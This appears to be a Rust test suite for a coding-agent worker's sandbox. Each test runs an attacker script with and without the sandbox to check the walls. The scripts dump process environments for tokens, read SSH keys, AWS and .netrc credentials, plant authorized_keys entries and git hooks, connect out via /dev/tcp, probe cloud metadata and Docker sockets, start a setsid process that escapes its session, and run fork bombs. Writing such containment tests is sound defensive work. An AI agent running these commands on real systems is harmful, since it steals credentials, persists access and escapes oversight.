//! The agent is turned against the machine it runs on. Each attack is made twice: behind the walls, where it gets nothing, and without them,
//! where it gets what it is after; so that one which fails for another reason is noticed.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::mpsc::channel;
use std::thread;
use std::time::Duration;

use serde_json::json;

use crate::world::ollama::Ollama;
use crate::world::program::{commands_with, kill_those_with};
use crate::world::{TOKEN, World};

/// What nobody outside may come to know, and nobody inside may change.
const CANARY: &str = "canary-5f1d0c7e";

/// What the attacker's script does besides its attack: the task, so that the run goes on.
const COVER: &str = "test -e hello.txt && echo test > hello_test.txt || echo hello > hello.txt";

/// Where an attack is made.
struct Scene {
    world: World,
    issue: u64,
}

impl Scene {
    async fn new(walls: bool) -> Self {
        let mut world = World::new().await;
        if !walls {
            world.without_sandbox();
        }
        let issue = world.task("Add a greeting", "").await;
        Self { world, issue }
    }

    /// What the attacker carried off: it writes to the path in `$LOOT`.
    fn loot(&self) -> String {
        std::fs::read_to_string(self.loot_file()).unwrap_or_default()
    }

    fn loot_file(&self) -> PathBuf {
        self.world.stage().join("loot")
    }

    /// Lets an agent run the script, and then do its task.
    async fn attack(&mut self, script: &str) {
        self.world.agent(&format!("LOOT='{}'\n({script}\n) </dev/null\n{COVER}", self.loot_file().display()));
        let ran = self.world.work().await;
        assert_eq!(ran.code, Some(0), "{ran:?}");
        self.check_nothing_else_happened(&ran.stderr).await;
    }

    /// The token is nowhere, and the run's own branch is the only one that is new.
    async fn check_nothing_else_happened(&self, log: &str) {
        assert!(!log.contains(TOKEN), "the token is in the log");
        let mut told = self.world.comments(self.issue).await;
        told.extend(self.world.pull_requests().await.iter().map(ToString::to_string));
        assert!(!told.iter().any(|text| text.contains(TOKEN)), "the token was told: {told:?}");
        assert_eq!(self.world.branches(), ["codingworker/issue-1", "main"]);
    }
}

/// The script carries off `wanted` without walls, and not with them.
async fn check_read(prepare: impl Fn(&mut Scene) -> String, wanted: &str) {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let script = prepare(&mut scene);
        scene.attack(&script).await;
        let loot = scene.loot();
        assert_eq!(loot.contains(wanted), !walls, "walls: {walls}; the loot: {loot}");
        scene.world.finish();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_environment_of_the_worker_is_not_seen() {
    check_read(|_| "cat /proc/*/environ > \"$LOOT\" 2>/dev/null".to_owned(), TOKEN).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_environment_of_the_agent_holds_no_secret() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        scene.attack("env > \"$LOOT\"").await;
        let loot = scene.loot();
        assert!(loot.contains("PATH=") && !loot.contains(TOKEN) && !loot.contains("GITHUB"), "{loot}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn keys_in_the_home_directory_are_not_read() {
    let files = [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".config/gh/hosts.yml",
        ".netrc",
        ".git-credentials",
        ".cargo/credentials.toml",
    ];
    let prepare = |scene: &mut Scene| {
        let home = scene.world.path().to_path_buf();
        for file in files {
            let file = home.join(file);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, CANARY).unwrap();
        }
        format!("cd '{}'; cat {} > \"$LOOT\"", home.display(), files.join(" "))
    };
    check_read(prepare, CANARY).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_workers_own_files_are_not_read() {
    let prepare = |scene: &mut Scene| {
        let data = scene.world.data_dir();
        std::fs::create_dir_all(data.join("repositories/owner/secret.git")).unwrap();
        std::fs::write(data.join("repositories/owner/secret.git/config"), CANARY).unwrap();
        format!("grep -rhs {CANARY} '{}' / --include=config > \"$LOOT\"", data.display())
    };
    // Without walls the search of the whole disk would take long, and the first directory is enough.
    check_read(|scene| prepare(scene).replace(" / ", " "), CANARY).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_the_worker_was_started_with_is_not_handed_on() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let secret = scene.world.path().join("secret");
        std::fs::write(&secret, CANARY).unwrap();
        scene.world.agent(&format!("cat <&7 >> '{}'\n{COVER}", scene.loot_file().display()));
        let worker = scene.world.command(&["worker", "--once"]);
        let mut shell = tokio::process::Command::new("/bin/sh");
        shell.args(["-c", "exec 7< \"$0\"; exec \"$@\""]).arg(&secret).arg(worker.as_std().get_program());
        shell.args(worker.as_std().get_args()).env_clear().env("GITHUB_TOKEN", TOKEN);
        shell.envs(worker.as_std().get_envs().filter_map(|(name, value)| Some((name, value?))));
        let ran = shell.stdin(Stdio::null()).output().await.unwrap();
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
        assert_eq!(scene.loot().contains(CANARY), !walls);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_outside_the_workspace_is_written() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let home = scene.world.path().to_path_buf();
        let hooks = scene.world.data_dir().join("repositories/owner/repo.git/hooks");
        let mut script = String::new();
        let marks = [
            home.join(".profile"),
            home.join(".ssh/authorized_keys"),
            hooks.join("pre-push"),
            PathBuf::from("../../mark"),
        ];
        for mark in &marks {
            let directory = mark.parent().unwrap().display();
            script.push_str(&format!("mkdir -p '{directory}'; echo {CANARY} > '{}'\n", mark.display()));
        }
        scene.attack(&script).await;
        for mark in marks.iter().filter(|mark| mark.is_absolute()) {
            assert_eq!(mark.exists(), !walls, "{}", mark.display());
        }
        assert_eq!(home.join("worker/runs/1/mark").exists(), !walls);
    }
}

/// A listener on this machine's loopback address, and what it heard first.
fn ear() -> (u16, std::sync::mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (said, heard) = channel();
    thread::spawn(move || {
        let mut text = String::new();
        listener.accept().unwrap().0.read_to_string(&mut text).ok();
        said.send(text).ok();
    });
    (port, heard)
}

#[tokio::test(flavor = "multi_thread")]
async fn no_address_is_reached() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let (port, heard) = ear();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        let udp_port = udp.local_addr().unwrap().port();
        udp.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
        let mut script = format!(
            "bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{port}'\nbash -c 'echo {CANARY} > /dev/udp/127.0.0.1/{udp_port}'\n"
        );
        // Only behind the walls: these addresses are not this test's to knock at.
        if walls {
            for address in ["169.254.169.254/80", "192.168.1.1/80", "10.0.0.1/22", "1.1.1.1/53"] {
                script.push_str(&format!("bash -c 'echo x > /dev/tcp/{address}' && echo {address} >> \"$LOOT\"\n"));
            }
            script.push_str("getent hosts example.com >> \"$LOOT\"\n");
        }
        scene.attack(&script).await;
        let heard = heard.recv_timeout(Duration::from_millis(500)).unwrap_or_default();
        assert_eq!(heard.contains(CANARY), !walls, "TCP, walls: {walls}");
        assert_eq!(udp.recv(&mut [0; 64]).is_ok(), !walls, "UDP, walls: {walls}");
        assert_eq!(scene.loot(), "");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_sockets_of_docker_ssh_agent_and_the_desktop_are_not_reached() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let name = format!("{CANARY}-{walls}-{}", std::process::id());
        let _desktop = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
        let docker = scene.world.path().join("docker.sock");
        let _docker = UnixListener::bind(&docker).unwrap();
        let script = format!(
            "python3 -c \"import socket\nfor name in ['{}', chr(0) + '{name}']:\n  try: socket.socket(socket.AF_UNIX).connect(name); print('reached')\n  except OSError: print('closed')\" > \"$LOOT\"",
            docker.display()
        );
        scene.attack(&script).await;
        assert_eq!(scene.loot(), if walls { "closed\nclosed\n" } else { "reached\nreached\n" });
    }
}

/// Each of these system calls is refused behind the walls as if there were no right to it; without them it is not refused, or for another reason.
#[tokio::test(flavor = "multi_thread")]
async fn the_kernels_rarer_doors_are_shut() {
    const CALLS: &str = r#"
import ctypes, os, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(*arguments)
    print(name, 'refused' if result == -1 and ctypes.get_errno() == 1 else 'passed')
x86 = platform.machine() == 'x86_64'
call('ptrace', 101 if x86 else 117, 0, 0, 0, 0)
call('io_uring', 425, 0, 0)
call('tiocsti', 16 if x86 else 29, 0, 0x5412, b'x')
call('keyctl', 250 if x86 else 219, 0, -3, 0)
try: socket.socket(40, socket.SOCK_STREAM); print('vsock passed')
except OSError as error: print('vsock', 'refused' if error.errno == 1 else 'passed')
pid = os.fork()
if pid == 0:
    call('namespace', 272 if x86 else 97, 0x10000000)
    os._exit(0)
os.waitpid(pid, 0)
"#;
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let file = scene.world.stage().join("calls.py");
        std::fs::write(&file, CALLS).unwrap();
        scene.attack(&format!("python3 -u '{}' > \"$LOOT\"", file.display())).await;
        let loot = scene.loot();
        assert_eq!(loot.lines().count(), 6, "{loot}");
        let refused = loot.lines().filter(|line| line.ends_with("refused")).count();
        if walls {
            assert_eq!(refused, 6, "{loot}");
        } else {
            assert!(refused <= 1, "a container may refuse one of them itself: {loot}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_namespace_in_the_sandbox_is_not_made_by_a_tool_either() {
    check_read(|_| format!("unshare --user --map-root-user echo {CANARY} > \"$LOOT\""), CANARY).await;
}

/// The agent's own calls reach the model; none that changes what is installed does.
#[tokio::test(flavor = "multi_thread")]
async fn the_models_server_is_asked_for_inference_and_nothing_else() {
    for walls in [false, true] {
        let ollama = Ollama::start(["m:1b"]).await;
        let mut scene = Scene::new(walls).await;
        let endpoint = if walls { "$OLLAMA_HOST".to_owned() } else { ollama.endpoint().to_owned() };
        let script = format!(
            "curl -s -X POST -d '{{\"model\":\"m:1b\",\"messages\":[]}}' {endpoint}/api/chat -o /dev/null -w '%{{http_code}}\\n' >> \"$LOOT\"\n\
             curl -s -X DELETE -d '{{\"model\":\"m:1b\"}}' {endpoint}/api/delete -o /dev/null -w '%{{http_code}}\\n' >> \"$LOOT\"\n\
             curl -s -X POST -d '{{\"model\":\"evil\"}}' {endpoint}/api/pull -o /dev/null -w '%{{http_code}}\\n' >> \"$LOOT\""
        );
        let file = scene.loot_file();
        scene.world.agent(&format!("LOOT='{}'\n{script}\n{COVER}", file.display()));
        scene.world.set("agent", json!({ "model_endpoint": ollama.endpoint() }));
        assert_eq!(scene.world.work().await.code, Some(0));
        let loot = scene.loot();
        let first: Vec<&str> = loot.lines().take(3).collect();
        assert_eq!(first, if walls { ["200", "403", "403"] } else { ["200", "404", "404"] }, "404 is the server's own");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_left_its_session_dies_with_the_call() {
    for walls in [false, true] {
        let mut scene = Scene::new(walls).await;
        let sleeper = scene.world.stage().join("sleeper");
        std::os::unix::fs::symlink("/bin/sleep", &sleeper).unwrap();
        let sleeper = sleeper.to_string_lossy().into_owned();
        // Twice forked, in a session of its own, deaf to the polite signal, and without the mark of its call.
        let leave = format!("trap '' TERM; env -i '{sleeper}' 600 >/dev/null 2>&1 &");
        scene.attack(&format!("setsid sh -c \"{leave}\"; sleep 0.2")).await;
        assert_eq!(commands_with(&sleeper).is_empty(), walls, "walls: {walls}");
        kill_those_with(&sleeper);
    }
}

/// Runs an agent that uses too much, and returns what its run says of it.
async fn uses_too_much(script: &str, limits: serde_json::Value) -> String {
    let mut scene = Scene::new(true).await;
    scene.world.set("sandbox", limits);
    scene.world.agent(script);
    let ran = scene.world.work().await;
    assert_eq!(ran.code, Some(1), "{ran:?}");
    assert_eq!(commands_with(&scene.world.stage().to_string_lossy()), Vec::<String>::new());
    scene.world.comments(scene.issue).await.concat()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_fork_bomb_ends_at_the_limit() {
    let one_session = "bomb() { bomb | bomb & }; bomb; wait; sleep 600";
    let many_sessions = "echo 'setsid sh /tmp/bomb & setsid sh /tmp/bomb & sleep 600' > /tmp/bomb; sh /tmp/bomb";
    for bomb in [one_session, many_sessions] {
        let said = uses_too_much(bomb, json!({ "processes": 64 })).await;
        assert!(said.contains("more than 64 processes"), "{said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn memory_ends_at_the_limit() {
    let many = "for i in 1 2 3 4; do python3 -c 'import time; x = bytearray(100 << 20); time.sleep(600)' & done; wait";
    let said = uses_too_much(many, json!({ "memory_mib": 256 })).await;
    assert!(said.contains("more than 256 MiB of memory"), "{said}");
}

/// Writes the last MiB of a file, and returns the file's size; sparse, so that nothing but the limit stands in its way.
async fn writes_a_file(mib: u64, limit: u64) -> u64 {
    let mut scene = Scene::new(true).await;
    scene.world.set("sandbox", json!({ "file_size_mib": limit }));
    let write = format!("dd if=/dev/zero of=large bs=1M count=1 seek={} 2>/dev/null", mib - 1);
    scene.attack(&format!("{write}; stat -c %s large > \"$LOOT\"; rm -f large")).await;
    scene.loot().trim().parse().unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_of_ten_gigabytes_ends_at_the_limit() {
    assert!(writes_a_file(10_240, 64).await <= 64 << 20);
    assert_eq!(writes_a_file(100, 4_096).await, 100 << 20);
}

#[tokio::test(flavor = "multi_thread")]
async fn temporary_files_end_at_the_limit() {
    let mut scene = Scene::new(true).await;
    scene.world.set("sandbox", json!({ "temporary_mib": 16 }));
    scene.attack("dd if=/dev/zero of=/tmp/large bs=1M count=64 2>/dev/null; stat -c %s /tmp/large > \"$LOOT\"").await;
    assert!(scene.loot().trim().parse::<u64>().unwrap() <= 16 << 20, "{}", scene.loot());
}

/// A check is the repository's own program, and may be as hostile as an agent.
#[tokio::test(flavor = "multi_thread")]
async fn a_check_is_behind_the_same_walls() {
    for walls in [false, true] {
        let mut world = World::without_repository().await;
        if !walls {
            world.without_sandbox();
        }
        let loot = world.stage().join("loot");
        let (port, heard) = ear();
        let secret = world.path().join(".netrc");
        std::fs::write(&secret, CANARY).unwrap();
        let nothing = "build = \"\"\nformat = \"\"\nlint = \"\"\nsetup = \"\"\n";
        let settings = format!("[checks]\n{nothing}test = \"sh check.sh\"\n");
        let check = format!(
            "cat /proc/*/environ '{}' > '{}' 2>/dev/null; bash -c 'echo {CANARY} > /dev/tcp/127.0.0.1/{port}' 2>/dev/null; true\n",
            secret.display(),
            loot.display()
        );
        world.forge.repository("owner/repo", "main", &[(".codingworker.toml", &settings), ("check.sh", &check)]);
        world.task("Add a greeting", "").await;
        assert_eq!(world.work().await.code, Some(0));
        let loot = read(&loot);
        assert_eq!((loot.contains(TOKEN), loot.contains(CANARY)), (!walls, !walls), "{loot}");
        assert_eq!(heard.recv_timeout(Duration::from_millis(500)).is_ok(), !walls);
        world.finish();
    }
}

/// What a repository's tools download could be a library that another's build links.
#[tokio::test(flavor = "multi_thread")]
async fn downloads_of_one_repository_are_not_seen_by_another() {
    let mut world = World::without_repository().await;
    let loot = world.stage().join("loot");
    let nothing = "build = \"\"\nformat = \"\"\nlint = \"\"\nsetup = \"\"\n";
    let settings = format!("[checks]\n{nothing}test = \"sh check.sh\"\n");
    let leave = format!("mkdir -p $CARGO_HOME; echo {CANARY} > $CARGO_HOME/library\n");
    // Its own cache, and whatever lies around it.
    let look =
        format!("cat $CARGO_HOME/library $CARGO_HOME/../../*/*/library >> '{}' 2>/dev/null; true\n", loot.display());
    for (name, check) in [("owner/repo", format!("{leave}{look}")), ("owner/other", look.clone())] {
        world.forge.repository(
            name,
            "main",
            &[(".codingworker.toml", settings.as_str()), ("check.sh", check.as_str())],
        );
    }
    world.task("Add a greeting", "").await;
    assert_eq!(world.work().await.code, Some(0));
    assert!(read(&loot).contains(CANARY), "a repository finds its own");
    std::fs::remove_file(&loot).unwrap();
    world.set("repositories", json!(["owner/other"]));
    let issue = json!({ "title": "Add a greeting", "body": "", "labels": ["ai-task"] });
    world.forge.ask(reqwest::Method::POST, "/repos/owner/other/issues", issue).await;
    assert_eq!(world.run(&["submit", "--issue", "owner/other#1"]).await.code, Some(0));
    assert_eq!(world.work().await.code, Some(0));
    assert_eq!(read(&loot), "");
}

/// A setup that may fetch gets a proxy to public addresses, and no way to any other.
#[tokio::test(flavor = "multi_thread")]
async fn a_setup_that_may_fetch_reaches_no_private_address() {
    for (walls, network) in [(false, true), (true, true), (true, false)] {
        let mut world = World::without_repository().await;
        if !walls {
            world.without_sandbox();
        }
        let (port, heard) = ear();
        let loot = world.stage().join("loot");
        let nothing = "build = \"\"\nformat = \"\"\nlint = \"\"\ntest = \"\"\n";
        let settings = format!("[checks]\n{nothing}setup = \"sh setup.sh\"\nsetup_network = {network}\n");
        let setup = format!(
            "curl -s -m 2 telnet://127.0.0.1:{port} </etc/os-release\n\
             for url in http://169.254.169.254/latest http://127.0.0.1 http://localhost http://[::1]/ http://0x7f000001/; do\n\
             curl -s -m 5 -o /dev/null -w '%{{http_code}} ' \"$url\" >> '{}'; done; true\n",
            loot.display()
        );
        let files = [
            (".codingworker.toml", settings.as_str()),
            ("setup.sh", if walls { &setup } else { setup.split('\n').next().unwrap() }),
        ];
        world.forge.repository("owner/repo", "main", &files);
        world.task("Add a greeting", "").await;
        assert_eq!(world.work().await.code, Some(0));
        assert_eq!(heard.recv_timeout(Duration::from_millis(500)).is_ok(), !walls, "walls: {walls}");
        if walls {
            let loot = read(&loot);
            let codes: Vec<&str> = loot.split_whitespace().take(5).collect();
            // The loopback addresses are past the proxy, where nobody listens; the rest it refuses.
            let expected = if network { ["403", "000", "000", "403", "000"] } else { ["000"; 5] };
            assert_eq!(codes, expected, "network: {network}");
        }
        world.finish();
    }
}

fn read(path: &Path) -> String {
    String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default()).into_owned()
}
